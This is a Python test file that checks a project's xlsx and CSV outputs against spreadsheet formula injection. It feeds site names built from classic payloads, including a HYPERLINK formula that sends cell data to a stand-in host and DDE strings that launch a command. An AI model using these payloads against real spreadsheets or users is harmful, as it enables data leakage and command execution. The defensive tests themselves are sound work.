"""No text from an input ever becomes a spreadsheet formula (issue 11, OWASP CSV injection)."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pytest

from opvang_opt.io import load
from opvang_opt.outputs import write_results
from opvang_opt.pipeline import run

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def injected(tmp_path_factory, request) -> Path:
    tiny = request.getfixturevalue("tiny_module")
    sites = gpd.read_file(tiny["data"] / "sites.gpkg", layer="longlist")
    sites["name"] = PAYLOADS
    sites.to_file(tiny["data"] / "sites.gpkg", layer="longlist", driver="GPKG")
    result = run(*load(tiny["path"]), scenario_dir=str(tiny["dir"]))
    return write_results(result, tiny["dir"] / "out")


@pytest.fixture(scope="module")
def tiny_module(tmp_path_factory):
    from tests.conftest import tiny as tiny_fixture

    return tiny_fixture.__wrapped__(tmp_path_factory.mktemp("formula"))  # type: ignore[attr-defined]


def test_workbook_holds_the_names_as_text_not_formulas(injected):
    wb = openpyxl.load_workbook(injected / "results.xlsx")
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert set(PAYLOADS) <= set(texts)  # kept verbatim, as text
    with zipfile.ZipFile(injected / "results.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_csv_text_that_a_spreadsheet_would_run_gets_an_apostrophe(injected):
    with (injected / "shortlist.csv").open(encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    with (injected / "exclusions.csv").open(encoding="utf-8") as fh:
        rows += list(csv.DictReader(fh))
    cells = [v for r in rows for v in r.values() if v]
    assert cells
    for v in cells:
        assert not v.startswith(("=", "+", "@")), v
    names = {v for v in cells if v.lstrip("'") in PAYLOADS}
    assert names and all(v.startswith("'") for v in names)


@pytest.mark.skipif(
    shutil.which("soffice") is None and os.environ.get("CI") != "true",
    reason="LibreOffice (soffice) is not installed (apt-get install libreoffice-calc-nogui)",
)
def test_libreoffice_finds_no_formula_cell(injected, tmp_path):
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is required under CI"
    subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo",
         "--convert-to", "fods", "--outdir", str(tmp_path), str(injected / "results.xlsx")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    fods = (tmp_path / "results.fods").read_text(encoding="utf-8")
    # LibreOffice imports an xlsx boolean cell as the formula TRUE()/FALSE(); those carry no
    # input text. Any other formula would be input text that became live.
    formulas = set(re.findall(r'table:formula="([^"]*)"', fods))
    assert formulas <= {"of:=TRUE()", "of:=FALSE()"}, formulas
    assert "HYPERLINK" in fods  # the name is there, as text
